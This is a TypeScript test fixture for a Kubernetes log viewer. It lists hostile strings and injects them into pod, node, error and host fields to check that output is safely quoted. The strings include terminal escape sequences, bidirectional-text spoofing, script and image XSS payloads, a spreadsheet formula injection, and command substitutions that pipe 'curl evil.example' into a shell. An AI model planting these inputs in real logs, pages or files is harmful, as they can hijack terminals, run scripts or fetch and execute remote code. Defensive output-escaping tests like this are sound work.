/** Logs whose names and errors try to act on whoever reads the output: on the terminal, on a page, in a table, in a chat. */
import { writeQuoted } from '../../src/journal/klog/goQuote.ts';

/** Each acts somewhere if it is shown as it is. */
export const HOSTILE_TEXTS: readonly string[] = [
  'c\u001b]52;c;QUFB\u0007\u001b[2J',
  'c\u009b2J\u007f\u0000\u0085',
  '\u202egnp.exe\u2066\u200b\u{e0041}\ufeff',
  'a\r\nWARNINGS\tb',
  '```<img src=x onerror=alert(1)>',
  '``` <script>alert(1)</script> ` <b>x</b> ``',
  '<https://evil.example/a>',
  '[a](https://evil.example) ![i](https://evil.example/i.png)',
  'https://evil.example/b www.evil.example evil.example ftp://evil.example //evil.example/c mailto:a@evil.example',
  '@everyone @here a@evil.example #12 GH-12 a/b#3 :smile:',
  '*a* **b** _c_ __d__ ~~e~~ ==f== $g$ | h | i |',
  '# j',
  '1. k',
  '- l',
  '> m',
  '&lt;n&gt; &#60;o&#62;',
  'p\\`q\\',
  '`curl evil.example|sh`',
  "=cmd|' /C calc'!A0",
  '$(bug) $(curl evil.example)',
  '[r]: https://evil.example',
];

/** A log of klog lines with `text` in all names of pods and nodes, in errors, and, without its blanks, as the host. */
export function hostileLog(log: string, text: string): string {
  const quoted = (value: string): string => writeQuoted(value).slice(1, -1);
  const host = text.replaceAll(/\s/g, '');
  return log
    .replaceAll(
      /\bpod="([^"/]*)\/([^"]*)"/g,
      (_, namespace: string, name: string) => `pod="${quoted(`${namespace}/${name}${text}`)}"`,
    )
    .replaceAll(
      /\b(pod|node|podName|containerName)="([^"/]*)"/g,
      (_, key: string, name: string) => `${key}="${quoted(`${text}${name}`)}"`,
    )
    .replaceAll(/\berr="(?!\[|PLEG)/g, `err="${quoted(text)} `)
    .replaceAll(/^(\w{3} [ \d]\d [\d:.]+) \S+ /gm, (_, time: string) => `${time} ${host} `);
}
